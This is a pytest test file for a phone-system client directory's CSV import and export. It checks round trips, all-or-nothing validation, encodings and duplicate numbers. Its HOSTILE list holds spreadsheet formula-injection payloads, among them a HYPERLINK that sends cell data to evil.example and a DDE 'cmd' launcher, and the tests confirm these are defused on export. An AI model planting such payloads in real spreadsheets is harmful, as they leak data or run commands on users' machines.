"""`pbxlink clients import/export` on real CSV files and a real SQLite database, run as an
admin runs them: all or nothing, every bad row named, no number twice, any encoding refused
but UTF-8 (BOM or not)."""

from __future__ import annotations

import csv
import logging
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import structlog

from pbxlink.calllog import relink_calls
from pbxlink.cli import main
from pbxlink.clients import csvio
from pbxlink.clients.directory import Directory
from pbxlink.clients.numbers import PhoneNumbers

from conftest import insert_call, make_record

HEADER = "name,company,category,notes,city,country,responsible,phones"
MOBILES = (551, 555, 557, 558, 568, 571, 574, 577, 579, 591, 592, 593, 595, 596, 597, 598, 599)


class Env:
    """A config file pointing at a fresh state directory, and the CLI run against it."""

    def __init__(self, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
        root.mkdir(parents=True, exist_ok=True)
        self.root = root
        self.capsys = capsys
        self.config = root / "pbxlink.toml"
        self.config.write_text(f'[storage]\nstate_dir = "{root / "state"}"\n', encoding="utf-8")
        self.db = root / "state" / "pbxlink.sqlite3"

    def run(self, *args: str) -> tuple[int, str, str]:
        self.capsys.readouterr()
        code = main(["clients", *args, "--config", str(self.config)])
        out, err = self.capsys.readouterr()
        return code, out, err

    def clients(self) -> list[tuple[object, ...]]:
        """Every client with its numbers (E.164, else raw), in id order: the state to compare."""
        if not self.db.exists():
            return []
        with sqlite3.connect(self.db) as db:
            rows = db.execute(
                "SELECT id, name, company, category, notes, city, country, responsible "
                "FROM clients ORDER BY id"
            ).fetchall()
            phones: dict[int, list[str]] = {}
            for client_id, raw, e164 in db.execute(
                "SELECT client_id, raw, e164 FROM client_phones ORDER BY id"
            ):
                phones.setdefault(client_id, []).append(e164 or raw)
        return [(*r, tuple(phones.get(r[0], ()))) for r in rows]


@pytest.fixture(autouse=True)
def _logging_restored() -> Iterator[None]:
    """main() points logging at the captured stderr, closed after the test: put it back, or
    a later test's log line would hit a closed file."""
    config = structlog.get_config()
    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    yield
    structlog.configure(**config)
    root.handlers[:] = handlers
    root.setLevel(level)


@pytest.fixture
def env(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Env:
    return Env(tmp_path / "a", capsys)


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def mobile(i: int) -> str:
    """A distinct valid Georgian mobile number for each i < 17,000,000."""
    return f"{MOBILES[i % len(MOBILES)]}{i // len(MOBILES):06d}"


def sample(path: Path) -> Path:
    """A small file with what real ones hold: scripts, quotes, commas, lines within a cell."""
    rows = [
        HEADER.split(","),
        ["ნინო ბერიძე", "შპს ალფა", "vip", 'says "call after 6", mostly', "თბილისი", "GE", "Ana",
         "+995 555 12 34 56; 0322123456"],
        ["Иван Петров", "ООО Бета, филиал", "", "line one\nline two", "Batumi", "GE", "",
         "577000111"],
        ["", "Acme LLC", "PROBLEM", "", "", "", "", "+1 212 555 0100, 00995599000222"],
        ["", "", "potential", "", "", "", "", "593123123"],
    ]  # fmt: skip
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


# -- round trip ---------------------------------------------------------------------------------


def test_round_trip_import_export_import(env: Env, tmp_path: Path, capsys) -> None:
    code, out, _ = env.run("import", str(sample(tmp_path / "in.csv")))
    assert code == 0, out
    assert "imported 4 clients with 6 numbers" in out
    first = env.clients()
    assert [c[3] for c in first] == ["vip", "regular", "problem", "potential"]  # "" -> default
    assert first[0][8] == ("+995555123456", "+995322123456")
    assert first[1][4] == "line one\nline two"
    assert first[2][8] == ("+12125550100", "+995599000222")

    exported = tmp_path / "out.csv"
    code, out, _ = env.run("export", str(exported))
    assert code == 0 and "4 clients exported" in out
    text = exported.read_text(encoding="utf-8")
    assert not text.startswith("\ufeff")
    assert text.splitlines()[0] == HEADER

    other = Env(tmp_path / "b", capsys)
    code, out, _ = other.run("import", str(exported))
    assert code == 0, out
    assert [c[1:] for c in other.clients()] == [c[1:] for c in first]
    again = tmp_path / "again.csv"
    assert other.run("export", str(again))[0] == 0
    assert again.read_bytes() == exported.read_bytes()


def test_export_bom_for_spreadsheets(env: Env, tmp_path: Path) -> None:
    env.run("import", str(sample(tmp_path / "in.csv")))
    out = tmp_path / "out.csv"
    assert env.run("export", str(out), "--bom")[0] == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbfname,company,")
    assert env.run("import", str(out), "--dry-run")[0] == 0  # and it reads back


HOSTILE = [  # what any operator can type into a client's card (a leading tab is trimmed)
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1dHYPERLINK(1)",  # full width: ＝
    "\uff0bcmd",
    "\uff0d2\uff0b3",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("bom", [False, True])
def test_export_defuses_formulas_and_reads_back(env: Env, tmp_path: Path, bom: bool) -> None:
    """Names, companies and notes an operator typed as formulas are written with a leading
    `'` (with --bom, for spreadsheets, as without); importing the export gives them back."""
    rows = [HEADER.split(",")]
    for i, text in enumerate(HOSTILE):
        rows.append([text, text, "", text, "", "", "", mobile(i)])
    rows.append(["Plain Name", "", "", "-5", "", "", "", "+995 555 000 111"])
    rows.append(["'@another tool's guard", "", "", "", "", "", "", ""])  # read without it
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    assert env.run("import", str(path))[0] == 0
    stored = env.clients()
    assert [c[1] for c in stored] == [*HOSTILE, "Plain Name", "@another tool's guard"]

    out = tmp_path / "out.csv"
    assert env.run("export", str(out), *(["--bom"] if bom else []))[0] == 0
    with out.open(encoding="utf-8-sig", newline="") as f:
        exported = list(csv.DictReader(f))
    for row, text in zip(exported, HOSTILE, strict=False):
        for name in ("name", "company", "notes"):
            assert row[name] == "'" + text, (name, row[name])
    assert exported[-2]["name"] == "Plain Name" and exported[-2]["notes"] == "-5"
    assert exported[-2]["phones"] == "+995 555 000 111"
    assert exported[-1]["name"] == "'@another tool's guard"

    other = Env(tmp_path / "b", env.capsys)
    assert other.run("import", str(out))[0] == 0
    assert [c[1:] for c in other.clients()] == [c[1:] for c in stored]


def test_export_without_database_says_so(env: Env, tmp_path: Path) -> None:
    code, _, err = env.run("export", str(tmp_path / "out.csv"))
    assert code == 1 and "no database" in err
    assert not (tmp_path / "out.csv").exists()


# -- all or nothing -----------------------------------------------------------------------------


def test_dry_run_writes_nothing(env: Env, tmp_path: Path) -> None:
    code, out, _ = env.run("import", str(sample(tmp_path / "in.csv")), "--dry-run")
    assert code == 0
    assert "dry run, nothing written: would import 4 clients with 6 numbers" in out
    assert env.clients() == []


@pytest.mark.parametrize(
    "cells, field, words",
    [
        ({"category": "gold"}, "category", ["unknown 'gold'", "known: potential, problem"]),
        ({"phones": "555 12 34 56; n/a"}, "phones", ["'n/a' is not a phone number"]),
        ({"phones": "12"}, "phones", ["'12' is not a phone number"]),
        ({"name": "x" * 201}, "name", ["at most 200 characters"]),
        ({"city": "Tbi\x07lisi"}, "city", ["control characters"]),
        ({"phones": "555 99 88 77, 0555998877"}, "phones", ["the same number twice"]),
        ({"name": "", "phones": "", "city": "Kutaisi"}, "", ["needs a name, a company or a phone"]),
    ],
)
def test_a_bad_row_anywhere_leaves_the_database_as_it_was(
    env: Env, tmp_path: Path, cells: dict[str, str], field: str, words: list[str]
) -> None:
    assert env.run("import", str(sample(tmp_path / "first.csv")))[0] == 0
    before = env.clients()
    rows = [{"name": f"Client {i}", "phones": mobile(1000 + i)} for i in range(300)]
    rows[137] = {**rows[137], **cells}  # row 139 of the file: the header is row 1
    path = tmp_path / "bad.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, HEADER.split(","))
        writer.writeheader()
        writer.writerows(rows)
    code, out, _ = env.run("import", str(path))
    assert code == 1
    assert env.clients() == before
    line = next(line for line in out.splitlines() if line.startswith("row 139"))
    assert line.startswith(f"row 139, {field}:" if field else "row 139:")
    for word in words:
        assert word in line
    assert "nothing imported" in out
    assert len([ln for ln in out.splitlines() if ln.startswith("row ")]) == 1


def test_every_bad_row_is_reported_with_its_line(env: Env, tmp_path: Path) -> None:
    path = write(
        tmp_path / "bad.csv",
        f'{HEADER}\nA,,vip,"two\nlines",,,,555000001\nB,,gold,,,,,12\n'
        "C,,,,,,,555000003,extra\n\n,,,,,,,\nD,,,,,,,555000004\n",
    )
    code, out, _ = env.run("import", str(path))
    assert code == 1
    lines = [ln for ln in out.splitlines() if ln.startswith("row ")]
    assert lines == [
        "row 3 (line 4), category: unknown 'gold' (known: potential, problem, regular, vip)",
        "row 3 (line 4), phones: '12' is not a phone number",
        "row 4 (line 5): 9 cells, the header has 8: a ',' in a cell that is not in quotes?",
    ]
    assert "3 errors in 4 rows" in out  # blank rows are no rows
    assert env.clients() == []


# -- encodings and dialects ---------------------------------------------------------------------


def test_not_utf8_names_file_and_line(env: Env, tmp_path: Path) -> None:
    path = write(
        tmp_path / "cp1251.csv", f"{HEADER}\nA,,,,,,,555000001\nИван,,,,,,,555000002\n", "cp1251"
    )
    code, out, err = env.run("import", str(path))
    assert code == 1 and out == ""
    assert f"{path}: line 3, column 1: not UTF-8 (byte 0xc8)" in err
    assert "nothing imported" in err
    assert env.clients() == []


def test_utf16_is_refused_with_advice(env: Env, tmp_path: Path) -> None:
    path = write(tmp_path / "u16.csv", f"{HEADER}\nA,,,,,,,555000001\n", "utf-16")
    code, _, err = env.run("import", str(path))
    assert code == 1 and "UTF-16" in err and "CSV UTF-8" in err


def test_bom_is_not_part_of_the_first_column(env: Env, tmp_path: Path) -> None:
    path = write(tmp_path / "bom.csv", f"\ufeff{HEADER}\nნინო,,,,,,,555000001\n")
    code, out, _ = env.run("import", str(path))
    assert code == 0, out
    assert "ignored" not in out
    assert env.clients()[0][1:3] == ("ნინო", "")


def test_semicolons_as_excel_writes_them_in_many_locales(env: Env, tmp_path: Path) -> None:
    path = write(tmp_path / "semi.csv", 'Name;Phones\r\n"Beridze; Nino";"555000001, 555000002"\r\n')
    code, out, _ = env.run("import", str(path))
    assert code == 0, out
    assert env.clients()[0][1] == "Beridze; Nino"
    assert env.clients()[0][8] == ("+995555000001", "+995555000002")


def test_broken_quoting_is_a_file_error(env: Env, tmp_path: Path) -> None:
    path = write(tmp_path / "q.csv", f'{HEADER}\nA,,,,,,,555000001\n"B,,,,,,,555000002\n')
    code, _, err = env.run("import", str(path))
    assert code == 1 and "not valid CSV" in err
    assert env.clients() == []


# -- mapping ------------------------------------------------------------------------------------


def test_mapping_names_the_columns(env: Env, tmp_path: Path) -> None:
    path = write(
        tmp_path / "crm.csv",
        "Full Name,Org,Phone,E-mail,Category\nNino Beridze,Alpha,+995 555 000 001,n@x.ge,VIP\n",
    )
    code, out, _ = env.run(
        "import", str(path), "--map", "name=Full Name", "--map", "company=org",
        "--map", "phones=Phone",
    )  # fmt: skip
    assert code == 0, out
    assert "columns: name='Full Name', company='Org', phones='Phone', category='Category'" in out
    assert "ignored columns: 'E-mail'" in out
    assert env.clients()[0][1:4] == ("Nino Beridze", "Alpha", "vip")


@pytest.mark.parametrize(
    "options, words",
    [
        (["--map", "email=E-mail"], ["unknown field 'email'"]),
        (["--map", "name"], ["expected FIELD=COLUMN"]),
        (["--map", "name=Nom"], ["no column 'Nom'", "'Full Name'"]),
        ([], ["no column is a field", "--map"]),
    ],
)
def test_bad_mapping_is_a_usage_error(
    env: Env, tmp_path: Path, options: list[str], words: list[str]
) -> None:
    path = write(tmp_path / "crm.csv", "Full Name,Phone\nNino,555000001\n")
    code, _, err = env.run("import", str(path), *options)
    assert code == 2
    for word in words:
        assert word in err
    assert env.clients() == []


# -- numbers already known ----------------------------------------------------------------------


def test_known_numbers_skip_the_row_never_a_duplicate(env: Env, tmp_path: Path) -> None:
    assert env.run("import", str(sample(tmp_path / "first.csv")))[0] == 0
    before = env.clients()
    path = write(
        tmp_path / "second.csv",
        f"{HEADER}\n"
        "Nino again,,,,,,,00995555123456\n"  # client 1's number, another form
        "New one,,,,,,,591000001; 32 2 12 34 56\n"  # one new number, one of client 1's
        "Fresh,,,,,,,591000002\n"
        "Fresh twin,,,,,,,+995 591 000 002\n",  # the row above has it
    )
    code, out, _ = env.run("import", str(path))
    assert code == 0, out
    known = "already belongs to client 1 (ნინო ბერიძე / შპს ალფა)"
    assert f"row 2, phones: skipped: '00995555123456' {known}" in out
    assert "row 3, phones: skipped: '32 2 12 34 56' already belongs to client 1" in out
    assert "row 5, phones: skipped: '+995 591 000 002' already belongs to row 4 of this file" in out
    assert "imported 1 clients with 1 numbers; skipped 3 rows" in out
    after = env.clients()
    assert after[:-1] == before
    assert after[-1][1] == "Fresh"
    # the same file again changes nothing: re-importing is safe
    code, out, _ = env.run("import", str(path))
    assert code == 0 and "imported 0 clients" in out and "skipped 4 rows" in out
    assert env.clients() == after


async def test_an_unknown_callers_card_is_absorbed_with_its_calls(tmp_path: Path) -> None:
    """The potential client made for an unknown caller becomes the imported client."""
    db = tmp_path / "pbxlink.sqlite3"
    directory = Directory(
        db, PhoneNumbers("GE"), photos_dir=tmp_path / "photos", relink_calls=relink_calls
    )
    async with directory:
        potential = await directory.register_unknown("0555777888")
        assert potential is not None
        insert_call(db, make_record(call_id="c1", caller_number="+995555777888"), potential.id)
        assert [c.id for c in await directory.lookup("+995555777888")] == [potential.id]
        path = write(tmp_path / "in.csv", f"{HEADER}\nNino,,vip,,,,,+995 555 77 78 88\n")
        report = await csvio.import_csv(directory, path)
        assert report.committed and report.imported == 1 and report.absorbed == 1
        assert report.skipped == 0
        found = await directory.lookup("555777888")  # the lookup cache was dropped
        assert [(c.name, c.category) for c in found] == [("Nino", "vip")]
        assert [p.raw for p in found[0].phones] == ["+995 555 77 78 88"]
        with sqlite3.connect(db) as conn:
            assert conn.execute("SELECT client_id FROM calls").fetchall() == [(found[0].id,)]
            assert conn.execute("SELECT count(*) FROM clients").fetchone() == (1,)


def test_a_number_no_rule_can_read_is_imported_with_a_warning(env: Env, tmp_path: Path) -> None:
    path = write(tmp_path / "in.csv", f"{HEADER}\nOdd,,,,,,,12345678\n")
    code, out, _ = env.run("import", str(path))
    assert code == 0
    assert "row 2, phones: warning: '12345678' is no valid number (region GE)" in out
    assert env.clients()[0][8] == ("12345678",)


# -- large files --------------------------------------------------------------------------------


def big_file(path: Path, rows: int) -> Path:
    forms = ("+995 {0[0]}{0[1]}{0[2]} {0[3]}{0[4]} {0[5]}{0[6]} {0[7]}{0[8]}", "0{0}", "{0}")
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(HEADER.split(","))
        for i in range(rows):
            numbers = [mobile(2 * i)] + ([mobile(2 * i + 1)] if i % 2 else [])
            phones = "; ".join(forms[(i + k) % 3].format(n) for k, n in enumerate(numbers))
            writer.writerow(
                [f"კლიენტი {i}", "შპს ალფა" if i % 3 else "", ("", "vip", "regular")[i % 3],
                 "", "Tbilisi", "GE", "", phones]
            )  # fmt: skip
    return path


@pytest.mark.slow
def test_20k_rows_with_30k_numbers_in_one_run(env: Env, tmp_path: Path) -> None:
    """How fast: benchmarks/lookup.py imports a million clients the same way."""
    path = big_file(tmp_path / "big.csv", 20_000)
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "pbxlink",
            "clients",
            "import",
            str(path),
            "--config",
            str(env.config),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "imported 20,000 clients with 30,000 numbers" in result.stdout
    # no progress bar when stderr is not a terminal: only the line naming the database
    assert result.stderr == f"pbxlink: database: {env.db} (no pbxlink daemon is running on it)\n"
    with sqlite3.connect(env.db) as db:
        assert db.execute("SELECT count(DISTINCT e164) FROM client_phones").fetchone() == (30_000,)


@pytest.mark.slow
def test_worker_processes_check_rows_as_this_one_does(env: Env, tmp_path: Path, capsys) -> None:
    path = big_file(tmp_path / "big.csv", 3_000)
    with path.open("a", encoding="utf-8") as f:
        f.write("Bad,,gold,,,,,12\n")
    one = env.run("import", str(path), "--jobs", "1")
    two = Env(tmp_path / "b", capsys).run("import", str(path), "--jobs", "2")
    assert one[0] == two[0] == 1
    report = [ln for ln in one[1].splitlines() if ln.startswith("row ")]
    assert report == [ln for ln in two[1].splitlines() if ln.startswith("row ")]
    assert report == [
        "row 3002, category: unknown 'gold' (known: potential, problem, regular, vip)",
        "row 3002, phones: '12' is not a phone number",
    ]
    path.write_text("".join(path.read_text(encoding="utf-8").splitlines(True)[:-1]), "utf-8")
    assert env.run("import", str(path), "--jobs", "1")[0] == 0
    other = Env(tmp_path / "c", capsys)
    assert other.run("import", str(path), "--jobs", "2")[0] == 0
    assert other.clients() == env.clients()


def test_progress_bar_when_asked(env: Env, tmp_path: Path) -> None:
    path = big_file(tmp_path / "big.csv", 50)
    code, _, err = env.run("import", str(path), "--progress")
    assert code == 0
    assert "big.csv" in err and "100%" in err and "rows=50" in err
    code, _, err = env.run("import", str(path), "--dry-run")
    assert err == f"pbxlink: database: {env.db} (no pbxlink daemon is running on it)\n"


def test_unreadable_file(env: Env, tmp_path: Path) -> None:
    code, _, err = env.run("import", str(tmp_path / "missing.csv"))
    assert code == 1 and "missing.csv: cannot read" in err
